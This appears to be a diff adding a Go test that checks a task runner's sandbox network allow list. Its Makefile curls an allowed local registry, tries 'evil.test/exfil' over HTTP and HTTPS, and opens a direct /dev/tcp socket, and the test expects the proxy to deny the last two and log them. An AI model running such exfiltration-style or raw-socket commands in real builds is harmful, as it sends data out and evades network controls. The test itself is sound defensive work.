@@ -1,0 +1,127 @@
+package pipeline
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/seed43ef5acb/runner/llm/llmtest"
+	"github.com/seed43ef5acb/runner/runner/event"
+	"github.com/seed43ef5acb/runner/tools/sandbox"
+)
+
+// TestExecNetworkAllowList runs a `make` that uses the network through
+// the whole pipeline with sandbox.network.allow naming one upstream (a
+// name the test resolves to a real server on 127.0.0.1), with each layer
+// pinned: curl reaches it through the runner's proxy, a host not in the
+// list gets the proxy's 403 naming it and how to allow it, and a direct
+// connection to a 127.0.0.1 listener fails. The log has one
+// network.access event per host:port with its count, run.finished and
+// result.json the same list, run.started the allow list and its limits.
+func TestExecNetworkAllowList(t *testing.T) {
+	for _, tool := range []string{"make", "curl", "bash"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("%s is not installed (.ci/run installs it): %v", tool, err)
+		}
+	}
+	for pin, layers := range layerPins() {
+		t.Run(pin, func(t *testing.T) {
+			sup := sandbox.Probe()
+			for _, l := range layers {
+				if !slices.Contains(sup.Available(), l) {
+					t.Skipf("layer %s is not available here: %s", l, sup.Missing())
+				}
+			}
+			up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				fmt.Fprintf(w, "module index %s", r.URL.Path)
+			}))
+			defer up.Close()
+			_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
+			sink := newTCPSink(t)
+			makefile := fmt.Sprintf(`all:
+	-curl -sS -m 10 http://registry.test:%[1]s/mod > allowed.txt 2>&1
+	-curl -sS -m 10 http://evil.test/exfil > denied.txt 2>&1
+	-curl -sS -m 10 https://evil.test/exfil >> denied.txt 2>&1
+	-bash -c 'exec 3<>/dev/tcp/%[2]s && echo mark >&3'; echo "direct: $$?" > direct.txt
+`, port, strings.Replace(sink.ln.Addr().String(), ":", "/", 1))
+			repo := gitRepo(t, map[string]string{"Makefile": makefile})
+			out := t.TempDir()
+			spec := filepath.Join(t.TempDir(), "task.yaml")
+			mustWrite(t, spec, gateSpec+fmt.Sprintf("sandbox: {network: {allow: [\"registry.test:%s\"]}}\n", port))
+			t.Setenv("XDG_CACHE_HOME", t.TempDir())
+			srv := newModel(t, makeTurn(), llmtest.Turn{Text: "Built."}.Reply())
+			var stderr bytes.Buffer
+			_, err := Exec(t.Context(), ExecOptions{Task: spec, Repo: repo, Out: out, BaseURL: srv.URL(), Quiet: true,
+				APIKey: "sk-unit-0123456789abcdef", Stderr: &stderr, Environ: []string{"PATH=" + os.Getenv("PATH"), sandbox.LayersEnv + "=" + pin},
+				resolveHost: func(_ context.Context, h string) ([]netip.Addr, error) {
+					if h == "registry.test" {
+						return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
+					}
+					return nil, fmt.Errorf("lookup %s: no such host", h)
+				}})
+			if err != nil {
+				t.Fatalf("exec: %v\n%s", err, stderr.String())
+			}
+			read := func(name string) string { b, _ := os.ReadFile(filepath.Join(repo, name)); return string(b) }
+			if got := read("allowed.txt"); got != "module index /mod" {
+				t.Errorf("allowed host through the proxy: %q", got)
+			}
+			denied := read("denied.txt")
+			for _, want := range []string{"the sandbox denied network access to evil.test:80", `add "evil.test:80" (or "evil.test" for ports 80 and 443) to sandbox.network.allow`, "CONNECT tunnel failed, response 403"} {
+				if !strings.Contains(denied, want) {
+					t.Errorf("denied.txt lacks %q:\n%s", want, denied)
+				}
+			}
+			if got := read("direct.txt"); got != "direct: 1\n" || len(sink.received()) > 0 {
+				t.Errorf("direct TCP without the proxy: %q, the listener got %q", got, sink.received())
+			}
+			data, err := os.ReadFile(filepath.Join(out, "events.jsonl"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			var accesses []event.NetworkAccess
+			var fin event.RunFinished
+			for _, r := range validLog(t, data) {
+				switch r.Type {
+				case "network.access":
+					var a event.NetworkAccess
+					if err := r.Decode(&a); err != nil {
+						t.Fatal(err)
+					}
+					accesses = append(accesses, a)
+				case "run.finished":
+					if err := r.Decode(&fin); err != nil {
+						t.Fatal(err)
+					}
+				}
+			}
+			want := fmt.Sprintf("[{registry.test %s true 1 0 } {evil.test 80 false 1 0 } {evil.test 443 false 1 0 }]", port)
+			if got := fmt.Sprint(accesses); got != want {
+				t.Errorf("network.access events %s, want %s", got, want)
+			}
+			if got := fmt.Sprint(fin.Network); got != want {
+				t.Errorf("run.finished network %s, want %s", got, want)
+			}
+			var result struct{ Network []event.NetworkAccess }
+			if b, err := os.ReadFile(filepath.Join(out, "result.json")); err != nil || json.Unmarshal(b, &result) != nil || fmt.Sprint(result.Network) != want {
+				t.Errorf("result.json network %v (%v), want %s", result.Network, err, want)
+			}
+			sb := runStartedSandbox(t, out)
+			if sb == nil || !slices.Equal(sb.NetworkAllow, []string{"registry.test:" + port}) ||
+				!slices.ContainsFunc(sb.Limits, func(s string) bool { return strings.HasPrefix(s, "network allow list:") }) {
+				t.Errorf("run.started sandbox %+v: want the allow list and its limits", sb)
+			}
+		})
+	}
+}
